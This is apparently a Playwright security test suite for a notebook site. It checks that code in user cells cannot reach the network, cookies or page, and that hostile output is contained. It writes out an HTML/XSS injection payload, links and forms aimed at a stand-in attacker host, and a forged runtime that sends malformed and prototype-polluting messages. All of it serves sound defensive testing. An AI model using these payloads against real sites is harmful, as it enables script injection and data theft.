/**
 * Foreign code in cells reaches neither the site, nor the network, nor the page. A machine of someone else's
 * listens on loopback and must hear nothing; after every hostile cell the page answers and a fresh cell runs.
 */
import type { Page } from '@playwright/test';
import { endless, forgedBundles, hostileOutputs, probeCell, reachCell, waysOut } from '../long/hostile.ts';
import { expectAwake, expectFreshCell, show, test } from './attacked.ts';
import { chapterPath, edit, expect, expectState, outputs, run } from './site.ts';

test.use({ serviceWorkers: 'block' });

const refused = /^(refused|nothing)$/;

test('nothing that a cell can try gets out: neither network, nor storage, nor page', async ({
  page,
  site,
  attacker,
}) => {
  await page.goto(site.url + chapterPath);
  await show(page, '1');
  await page.context().addCookies([{ name: 'secret', value: 'cookie', url: site.url }]);
  const before = site.log.length;
  const ways = waysOut({ attacker, site: site.url });
  await show(page, probeCell(ways));
  // Beside it the page says that the probes' own timers were still waiting.
  const told = await outputs(page, 'equal').locator('.output-stream').textContent();
  const outcome = JSON.parse(told!) as Record<string, string>;
  expect(Object.keys(outcome).sort()).toEqual(Object.keys(ways).sort());
  for (const [way, what] of Object.entries(outcome)) expect(what, way).toMatch(refused);
  expect(attacker.heard).toEqual([]);
  expect(site.log.slice(before).map(({ path }) => path)).toEqual([]);
  expect(await show(page, `import('${attacker.url}module.js')`)).toContain('they run without a network');
  await expectFreshCell(page);
  // The listener would have heard.
  await fetch(`${attacker.url}control`);
  expect(attacker.heard).toContain('GET /control');
});

test('no function that reaches out is within a cell’s reach, by whatever path', async ({ page, site }) => {
  await page.goto(site.url + chapterPath);
  const { looked, found } = JSON.parse(await show(page, reachCell));
  expect(looked).toBeGreaterThan(1_000);
  expect(found).toEqual([]);
});

test('cells that never end are stopped, and the next one runs', async ({ page, site }) => {
  await page.goto(site.url + chapterPath);
  await show(page, '1');
  for (const [name, source] of Object.entries(endless)) {
    await edit(page, 'equal', source);
    await run(page, 'equal');
    await test.step(name, () => expectState(page, 'equal', 'running'));
    await expectAwake(page, name);
    await run(page, 'equal');
    await expectState(page, 'equal', 'stale');
    await expectFreshCell(page);
  }
});

test('values that forge a format add no markup to the page and do not stop it', async ({ page, site }) => {
  await page.goto(site.url + chapterPath);
  for (const [name, source] of Object.entries(forgedBundles)) {
    await test.step(name, () => show(page, source));
    await expectAwake(page, name);
  }
  await expectFreshCell(page);
});

test('markup of a cell runs nothing, loads nothing, and stays in its box', async ({
  page,
  site,
  attacker,
}) => {
  await page.goto(site.url + chapterPath);
  await show(page, '1');
  const before = site.log.length;
  const address = page.url();
  for (const [name, source] of Object.entries(hostileOutputs({ attacker, site: site.url }))) {
    await test.step(name, () => show(page, source));
    await page.waitForTimeout(250);
    expect(attacker.heard, name).toEqual([]);
    expect(await page.locator('h1').first().isVisible(), `${name}: the page is seen`).toBe(true);
    await expectAwake(page, name);
  }
  await expectFreshCell(page);
  expect(page.url()).toBe(address);
  const asked = site.log.slice(before).map(({ path }) => path);
  expect(asked.filter((path) => !path.startsWith('/_astro/'))).toEqual([]);
});

test('links and forms in a cell’s HTML lead nowhere when they are pressed', async ({
  page,
  site,
  attacker,
}) => {
  await page.goto(site.url + chapterPath);
  const address = page.url();
  await show(
    page,
    `html\`<a id=top target=_top href="${attacker.url}top">top</a> <a id=blank target=_blank href="${attacker.url}blank">blank</a>
<a id=self href="${attacker.url}self" ping="${attacker.url}ping">self</a> <a id=script href="javascript:top.document.title='stolen'">script</a>
<form target=_top action="${attacker.url}form"><button id=form>form</button></form><button id=formaction form=f formaction="${attacker.url}formaction" formtarget=_blank>x</button><form id=f></form>\``,
  );
  const frame = outputs(page, 'equal').frameLocator('iframe');
  for (const id of ['top', 'blank', 'script', 'form', 'formaction', 'self'])
    await frame.locator(`#${id}`).click({ timeout: 2_000, noWaitAfter: true });
  await page.waitForTimeout(300);
  expect(attacker.heard).toEqual([]);
  expect(page.url()).toBe(address);
  expect(page.context().pages()).toHaveLength(1);
  await expectAwake(page, 'links');
  await expectFreshCell(page);
});

/** What a runtime sends that a cell has taken over: raw messages, past every cap and check of the runtime. */
const hostileRuntime = `
postMessage({ type: 'kernel_info_reply', protocol: 1 })
let scripts = 0
let finish
onmessage = ({ data: { type, id } }) => {
  // Whatever comes beside the first has come soon after it.
  if (type === 'plot_reply' && ++scripts === 1) setTimeout(finish, 500)
  if (type !== 'execute_request') return
  // The page may run once more what such a runtime has left open.
  scripts = 0
  const attack = '"><img src=x onerror="document.title=\\'stolen\\'"><b class=injected>injected</b>'
  const wild = [null, 7, 'idle', [], { parent: id }, { parent: id, type: '__proto__' }, { parent: id, type: 'toString' },
    { type: 'died ' }, { parent: id, type: 'stream', cell: 'equal', name: attack, text: attack },
    { parent: id, type: 'stream', cell: 'equal', name: 'stdout', text: { length: 1e9 } },
    { parent: id, type: 'stream', cell: 'no such cell', name: 'stdout', text: attack },
    { parent: 'run-0', type: 'stream', cell: 'equal', name: 'stdout', text: 'FORGED' },
    { parent: id + '0', type: 'execute_result', cell: 'equal', data: { 'text/plain': 'FORGED' } },
    { parent: id, type: 'execute_result', cell: 'equal', data: null },
    { parent: id, type: 'execute_result', cell: 'equal', data: { 'text/plain': 7 } },
    { parent: id, type: 'error', cell: 'equal', error: { name: attack, message: attack, frame: { cell: attack, line: attack, column: attack } } },
    { parent: id, type: 'error', cell: 'equal', error: null },
    { parent: id, type: 'execute_reply', cell: 'no such cell', status: 'ok', duration: 1, kept: false, mutated: [] },
    { parent: id, type: 'execute_reply', cell: 'equal', status: attack, duration: attack, kept: 7, mutated: attack },
    { parent: id, type: 'execute_result', cell: 'equal', data: { 'text/plain': 'p', 'application/vnd.separable.progress+json': { value: attack, total: attack } } },
    { parent: id, type: 'execute_result', cell: 'equal', data: { 'text/plain': 't', 'application/vnd.separable.tensor+json': { shape: [1, 1, 4e9], data: [1], min: 0, max: 0, mean: 0 } } },
  ]
  for (const message of wild) postMessage(message)
  for (const parent of [7, 'run-0', ...Array(50).fill(id)]) postMessage({ type: 'plot_request', parent })
  finish = () => {
    postMessage({ parent: id, type: 'execute_result', cell: 'equal', data: { 'text/plain': 'seen, scripts: ' + scripts } })
    postMessage({ parent: id, type: 'execute_reply', cell: 'equal', status: 'ok', duration: 1, kept: false, mutated: [] })
    postMessage({ parent: id, type: 'status', execution_state: 'idle' })
  }
}`;

async function replaceRuntime(page: Page, text: string): Promise<void> {
  await page.route(/\/_astro\/runtime\.[^/]*\.js$/, (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `const text = ${JSON.stringify(text)};export { text as runtime };`,
    }),
  );
}

test('a runtime that a cell has taken over can show text in the cell that runs, and nothing else', async ({
  page,
  site,
}) => {
  await replaceRuntime(page, hostileRuntime);
  await page.goto(site.url + chapterPath);
  const others = () => page.locator('.cell:not([data-cell-id="equal"]) [data-outputs]').allInnerTexts();
  const before = await others();
  const text = await show(page, '1');
  expect(text).toContain('seen, scripts: 1');
  expect(text).not.toContain('FORGED');
  await expectAwake(page, 'hostile runtime');
  expect(await others()).toEqual(before);
});

test('the frames alone hold a bare worker: no network, no storage, no page', async ({
  page,
  site,
  attacker,
}) => {
  // The ways out are tried by the worker's own script, with nothing taken away from it beforehand.
  const ways = waysOut({ attacker, site: site.url });
  await replaceRuntime(
    page,
    `const console = { log: (text) => (said = text) }
let said
for (const name of ['error', 'unhandledrejection']) addEventListener(name, (event) => event.preventDefault())
postMessage({ type: 'kernel_info_reply', protocol: 1 })
onmessage = async ({ data: { type, id } }) => {
  if (type !== 'execute_request') return
  await (async () => { ${probeCell(ways)} })()
  postMessage({ parent: id, type: 'execute_result', cell: 'equal', data: { 'text/plain': said } })
  postMessage({ parent: id, type: 'execute_reply', cell: 'equal', status: 'ok', duration: 1, kept: false, mutated: [] })
  postMessage({ parent: id, type: 'status', execution_state: 'idle' })
}`,
  );
  await page.goto(site.url + chapterPath);
  const outcome = JSON.parse(await show(page, '1')) as Record<string, string>;
  expect(Object.keys(outcome).sort()).toEqual(Object.keys(ways).sort());
  // A bare worker can make objects that come to nothing, and run modules and scripts of its own making.
  const harmless = ['BroadcastChannel', 'push by notification', 'import of a blob'];
  for (const [way, what] of Object.entries(outcome))
    if (!harmless.includes(way)) expect.soft(what, way).toMatch(refused);
  expect(attacker.heard).toEqual([]);
  expect(site.log.filter(({ path }) => /stolen|service-worker/.test(path))).toEqual([]);
});
